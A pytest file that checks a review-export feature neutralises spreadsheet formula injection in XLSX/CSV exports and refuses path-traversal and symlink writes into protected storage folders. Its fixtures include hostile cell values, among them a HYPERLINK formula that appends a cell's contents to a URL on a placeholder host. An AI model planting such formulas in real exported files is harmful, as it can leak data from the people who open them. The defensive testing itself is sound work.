"""The review export as files an analyst opens in a spreadsheet and hands back (issue 23), and where
``review export`` may write (issue 22, item 5).

Hostile comments and ids (formulas, a leading ``-``/``+``/``@``/tab/CR, line breaks, quotes) go out
as an XLSX and as a CSV; both are read back with openpyxl/pandas, filled in, dropped into
``labels/`` and read by the label reader, which must give back the exported ids and comments. The
same files opened in LibreOffice under an es-ES locale: ``bench/spreadsheet_roundtrip.py`` (it needs
``soffice``, which CI does not install).
"""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import UTC
from datetime import datetime

import pandas as pd
import pytest
from test_review_export import queue_rows
from test_review_export import write_review

from helpers import LABELS
from tasks.feedback.labels import labels_location
from tasks.feedback.labels import read_label_file
from tasks.feedback.labels import read_labels
from tasks.feedback.review_export import EXPORT_COLUMNS
from tasks.feedback.review_export import ExportRefused
from tasks.feedback.review_export import export_review
from tasks.feedback.review_export import export_target
from tasks.feedback.spreadsheet import neutralise_text
from tasks.feedback.spreadsheet import restore_text
from tasks.store.storage import Storage

pytest_plugins = ("s3_support",)

# (id, comentario): what customers and upstream systems can send; every one must come back as sent.
HOSTILE = [
    ("-5", "=1+1"),
    ("=x", '=HYPERLINK("http://example.invalid/?q="&A1,"pulse aquí")'),
    ("+34600", "+34 600 000 000 no contesta nadie"),
    ("@a", "@usuario el pedido no llega"),
    ("'=y", "'=ya empezaba con comilla"),
    ("t1", "\tempieza con tabulador"),
    ("cr1", "\rempieza con retorno de carro, y sigue"),
    ("nl1", 'línea 1\nlínea 2\r\nlínea 3, con "comillas" y ; punto y coma'),
    ("n1", "-barato no es"),
    ("00123", "el id tiene ceros delante"),
    ("plain", "la app se cierra"),
]


def hostile_queue() -> pd.DataFrame:
    rows = [(i, text, "logistica", 0.5 + n / 1000, "low_confidence") for n, (i, text) in enumerate(HOSTILE)]
    rows[0] = (*rows[0][:3], 0.518, rows[0][4])  # the 0.518 -> 518 in a Spanish LibreOffice
    return queue_rows(*rows)


@pytest.fixture
def storage(tmp_path) -> Storage:
    storage = Storage(str(tmp_path / "storage"))
    write_review(storage, hostile_queue(), datetime(2026, 3, 1, tzinfo=UTC), "k1")
    return storage


# ------------------------------------------------------------------------------------------ neutralising


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "'=x", "''-x", "'\nx", "'plain", "plain", "", "a=b", "'"],
)
def test_neutralise_then_restore_is_the_identity(text):
    safe = neutralise_text(text)
    assert restore_text(safe) == text
    assert not str(safe).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_restore_leaves_ordinary_quotes_alone():
    assert restore_text("'hola") == "'hola" and restore_text("''") == "''"


def test_a_cr_turned_into_lf_by_a_spreadsheet_loses_its_quote_too():
    assert restore_text(neutralise_text("\rhola").replace("\r", "\n")) == "\nhola"


# --------------------------------------------------------------------------------------------------- CSV


class TestSafeCsv:
    def test_every_field_quoted_formulas_neutralised_confidence_a_whole_percentage(self, storage, tmp_path):
        out = tmp_path / "r.csv"
        assert export_review(storage, str(out)) == (len(HOSTILE), len(HOSTILE))
        text = out.read_bytes().decode("utf-8-sig")
        records = list(csv.reader(io.StringIO(text, newline="")))
        assert records[0] == list(EXPORT_COLUMNS) and len(records) == len(HOSTILE) + 1
        # QUOTE_ALL: the raw text is exactly its records written with every field quoted
        again = io.StringIO()
        csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(records)
        assert text == again.getvalue() and text.startswith('"id","comentario"')
        rows = {r[0]: dict(zip(records[0], r, strict=True)) for r in records[1:]}
        assert rows["'-5"]["comentario"] == "'=1+1"
        assert rows["'=x"]["comentario"].startswith("'=HYPERLINK(")
        assert rows["''=y"]["comentario"] == "''=ya empezaba con comilla"
        assert (
            rows["cr1"]["comentario"] == "'\rempieza con retorno de carro, y sigue"
        )  # CR kept, inside quotes
        assert rows["nl1"]["comentario"] == HOSTILE[7][1]
        assert rows["'-5"]["confianza_pct"] == "52"  # not 0.518 (518 in es-ES), not 51.8
        assert all(r["confianza_pct"].isdigit() for r in rows.values())
        assert not any(
            v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for v in r.values()
        )

    def test_pandas_reads_the_same_rows(self, storage, tmp_path):
        out = tmp_path / "r.csv"
        export_review(storage, str(out))
        frame = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        assert len(frame) == len(HOSTILE)
        assert sorted(frame["id"].map(restore_text)) == sorted(i for i, _ in HOSTILE)

    @pytest.mark.parametrize("sep", [",", ";"])
    def test_filled_in_csv_reads_back_with_the_exported_ids_and_comments(self, storage, tmp_path, sep):
        out = tmp_path / "r.csv"
        export_review(storage, str(out))
        # The analyst's spreadsheet keeps the cells as text (the leading ' included) and saves, in a
        # Spanish locale with ';', CRLF line ends (so a field holding a CR is quoted, as spreadsheets do).
        filled = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        filled["categoria"] = "Logística"
        target = tmp_path / "storage" / "labels" / "revision.csv"
        target.parent.mkdir()
        target.write_bytes(filled.to_csv(index=False, sep=sep, lineterminator="\r\n").encode("utf-8-sig"))
        labels = read_labels(storage, labels_location(storage, "auto"), LABELS)
        assert labels.rejected.empty
        assert dict(zip(labels.rows["id"], labels.rows["comentario"], strict=True)) == dict(HOSTILE)
        assert export_review(storage, str(out), force=True) == (0, len(HOSTILE))  # all labelled now

    def test_a_spreadsheet_that_dropped_the_quote_still_maps_to_the_ids(self, storage, tmp_path):
        """Excel takes a leading ' as "this is text" and saves the bare value: that reads back too."""
        target = tmp_path / "storage" / "labels" / "excel.csv"
        target.parent.mkdir()
        target.write_text('id;comentario;categoria\n-5;=1+1;logistica\n"=x";"=HYPERLINK(1)";precios\n')
        rows = read_labels(storage, labels_location(storage, "auto"), LABELS).rows
        assert dict(zip(rows["id"], rows["categoria"], strict=True)) == {"-5": "logistica", "=x": "precios"}


# -------------------------------------------------------------------------------------------------- XLSX


class TestXlsx:
    def test_typed_cells_text_never_a_formula(self, storage, tmp_path):
        from openpyxl import load_workbook

        out = tmp_path / "r.xlsx"
        assert export_review(storage, str(out)) == (len(HOSTILE), len(HOSTILE))
        sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
        sheet = load_workbook(out).worksheets[0]
        assert sheet.title == "revision" and sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:J{len(HOSTILE) + 1}"
        header = [c.value for c in sheet[1]]
        assert header == list(EXPORT_COLUMNS) and all(c.font.b for c in sheet[1])
        col = {name: i for i, name in enumerate(header)}
        rows = {r[col["id"]].value: r for r in sheet.iter_rows(min_row=2)}
        assert set(rows) == {i for i, _ in HOSTILE}  # ids as text: "00123" keeps its zeros
        first = rows["-5"]
        assert first[col["comentario"]].value == "=1+1" and first[col["comentario"]].data_type == "s"
        assert first[col["id"]].data_type == "s"
        confidence = first[col["confianza_pct"]]
        assert confidence.value == pytest.approx(51.8) and confidence.number_format == "0.0"
        assert isinstance(first[col["veces"]].value, int)
        scored = first[col["scored_date"]]
        assert scored.is_date and scored.value.date().isoformat() == "2026-03-01"
        assert scored.number_format == "yyyy-mm-dd"

    def test_pandas_reads_numbers_as_numbers(self, storage, tmp_path):
        out = tmp_path / "r.xlsx"
        export_review(storage, str(out))
        frame = pd.read_excel(out, dtype={"id": str})
        assert frame["confianza_pct"].dtype.kind == "f" and frame["confianza_pct"].min() == pytest.approx(
            50.1
        )
        assert set(frame["id"]) == {i for i, _ in HOSTILE}
        assert frame.set_index("id").loc["=x", "comentario"] == HOSTILE[1][1]

    def test_filled_in_workbook_goes_into_labels_and_reads_back(self, storage, tmp_path):
        from openpyxl import load_workbook

        out = tmp_path / "r.xlsx"
        export_review(storage, str(out))
        book = load_workbook(out)
        sheet = book.worksheets[0]
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            if row[header.index("id")].value != "plain":  # one row left empty: not labelled
                row[header.index("categoria")].value = "precios"
        target = tmp_path / "storage" / "labels" / "revision.xlsx"
        target.parent.mkdir()
        book.save(target)
        labels = read_labels(storage, labels_location(storage, "auto"), LABELS)
        assert labels.rejected.empty and labels.unlabelled == 1
        # CR is not kept by XML (a CR in a cell reads back as a line feed): compare the others exactly.
        expected = {i: t for i, t in HOSTILE if i != "plain"}
        got = dict(zip(labels.rows["id"], labels.rows["comentario"], strict=True))
        assert set(got) == set(expected)
        assert {i: t for i, t in got.items() if "\r" not in expected[i]} == {
            i: t for i, t in expected.items() if "\r" not in t
        }
        assert got["nl1"] == HOSTILE[7][1].replace("\r\n", "\n")
        assert export_review(storage, str(out), force=True) == (1, len(HOSTILE))

    def test_label_reader_takes_numbers_and_dates_a_person_typed(self):
        from openpyxl import Workbook

        book = Workbook()
        sheet = book.active
        sheet.append([None])  # an empty row above the header
        sheet.append(["id", "comentario", "categoria", "fecha"])
        sheet.append([123, "no llega", "logistica", datetime(2026, 3, 1)])
        sheet.append([None, None, None, None])  # an empty row between rows
        sheet.append([124.0, "caro", "precios", None])
        data = io.BytesIO()
        book.save(data)
        frame = read_label_file("a.xlsx", data.getvalue())
        assert frame.to_dict("records") == [
            {"id": "123", "comentario": "no llega", "categoria": "logistica", "fecha": "2026-03-01"},
            {"id": "124", "comentario": "caro", "categoria": "precios", "fecha": ""},
        ]

    def test_a_broken_workbook_is_one_line(self):
        from tasks.common.validation import DatasetError

        with pytest.raises(DatasetError, match=r"^label file a.xlsx is not a readable XLSX workbook: "):
            read_label_file("a.xlsx", b"id,comentario,categoria\n")


# --------------------------------------------------------------------------- where the export may write


class TestWhere:
    @pytest.mark.parametrize(
        "rel",
        [
            "models/LATEST.xlsx",
            "predictions/x.csv",
            "ledger/x.csv",
            "incoming/r.xlsx",
            "labels/r.xlsx",
            "r.xlsx",
            "exports/../models/r.xlsx",
        ],
    )
    def test_refused_anywhere_in_the_root_but_exports(self, storage, tmp_path, rel):
        with pytest.raises(ExportRefused, match="inside the storage root"):
            export_review(storage, str(tmp_path / "storage" / rel))
        assert not (tmp_path / "storage" / rel).exists()

    def test_latest_itself_is_not_overwritten(self, storage, tmp_path):
        latest = tmp_path / "storage" / "models" / "LATEST"
        latest.parent.mkdir(parents=True)
        latest.write_text("v1\n")
        for fmt in ("csv", "xlsx"):
            with pytest.raises(ExportRefused):
                export_review(storage, str(latest), fmt=fmt, force=True)
        assert latest.read_text() == "v1\n"

    def test_a_symlink_into_the_root_is_refused(self, storage, tmp_path):
        (tmp_path / "storage" / "models").mkdir(parents=True)
        (tmp_path / "elsewhere").mkdir()
        os.symlink(tmp_path / "storage" / "models", tmp_path / "elsewhere" / "link")
        with pytest.raises(ExportRefused, match="models/ belongs to the pipeline"):
            export_target(storage, str(tmp_path / "elsewhere" / "link" / "r.xlsx"))
        (tmp_path / "storage" / "exports").mkdir()
        os.symlink(tmp_path / "storage" / "ledger", tmp_path / "storage" / "exports" / "sneaky")
        with pytest.raises(ExportRefused, match="ledger/ belongs to the pipeline"):
            export_target(storage, str(tmp_path / "storage" / "exports" / "sneaky" / "r.xlsx"))

    def test_default_is_an_xlsx_under_exports(self, storage, tmp_path):
        target = export_target(storage, None)
        assert target.format == "xlsx" and target.path.startswith(str(tmp_path / "storage" / "exports") + "/")
        export_review(storage, target)
        (written,) = (tmp_path / "storage" / "exports").iterdir()
        assert written.name.startswith("revision-") and written.suffix == ".xlsx"
        assert export_target(storage, None, "csv").path.endswith(".csv")

    def test_an_existing_file_is_replaced_only_with_force(self, storage, tmp_path):
        out = tmp_path / "r.csv"
        out.write_text("mine")
        with pytest.raises(ExportRefused, match="exists: pass --force"):
            export_review(storage, str(out))
        assert out.read_text() == "mine"
        export_review(storage, str(out), force=True)
        assert out.read_bytes().startswith(b"\xef\xbb\xbf")

    def test_missing_folders_are_not_created_and_extensions_must_match(self, storage, tmp_path):
        with pytest.raises(ExportRefused, match="does not exist"):
            export_review(storage, str(tmp_path / "no" / "such" / "r.csv"))
        assert not (tmp_path / "no").exists()
        with pytest.raises(ExportRefused, match=r"does not end in \.xlsx or \.csv"):
            export_target(storage, str(tmp_path / "r.txt"))
        with pytest.raises(ExportRefused, match=r"does not end in \.xlsx \(--format xlsx\)"):
            export_target(storage, str(tmp_path / "r.csv"), "xlsx")
        with pytest.raises(ExportRefused, match="is a folder"):
            os.mkdir(tmp_path / "d.csv")
            export_target(storage, str(tmp_path / "d.csv"))

    def test_cli_refuses_in_one_line_and_leaves_latest(self, storage, tmp_path, capsys):
        from flows.cli import main

        latest = tmp_path / "storage" / "models" / "LATEST"
        latest.parent.mkdir(parents=True)
        latest.write_text("v1\n")
        code = main(["review", "export", "--storage", str(tmp_path / "storage"), "--out", str(latest)])
        err = capsys.readouterr().err
        assert code == 1 and latest.read_text() == "v1\n"
        assert err.count("\n") == 1 and "inside the storage root" in err and "exports/" in err
        latest.unlink()  # (a stand-in; the export reads the classes of the model in service)
        assert main(["review", "export", "--storage", str(tmp_path / "storage")]) == 0
        assert "rows to " + str(tmp_path / "storage" / "exports" / "revision-") in capsys.readouterr().out


def test_on_s3_only_exports_and_outside_the_root(s3_server, s3_prefix):
    storage = Storage(s3_prefix / "store", s3_server.endpoint)
    write_review(storage, hostile_queue(), datetime(2026, 3, 1, tzinfo=UTC), "k1")
    s3_server.put(f"{s3_prefix.key}/store/models/LATEST", b"v1\n")
    for uri in ("store/models/LATEST", "store/predictions/x.csv", "store/exports/../models/x.xlsx"):
        with pytest.raises(ExportRefused):
            export_review(storage, s3_prefix / uri, fmt="csv" if uri.endswith("LATEST") else None, force=True)
    assert s3_server.get(f"{s3_prefix.key}/store/models/LATEST") == b"v1\n"
    storage.delete("models/LATEST")  # (a stand-in; the export reads the classes of the model in service)
    export_review(storage, s3_prefix / "store/exports/r.xlsx")
    export_review(storage, s3_prefix / "out/r.csv")
    with pytest.raises(ExportRefused, match="exists"):
        export_review(storage, s3_prefix / "out/r.csv")
    assert s3_server.get(f"{s3_prefix.key}/store/exports/r.xlsx").startswith(b"PK")
    assert s3_server.get(f"{s3_prefix.key}/out/r.csv").startswith(b"\xef\xbb\xbf")
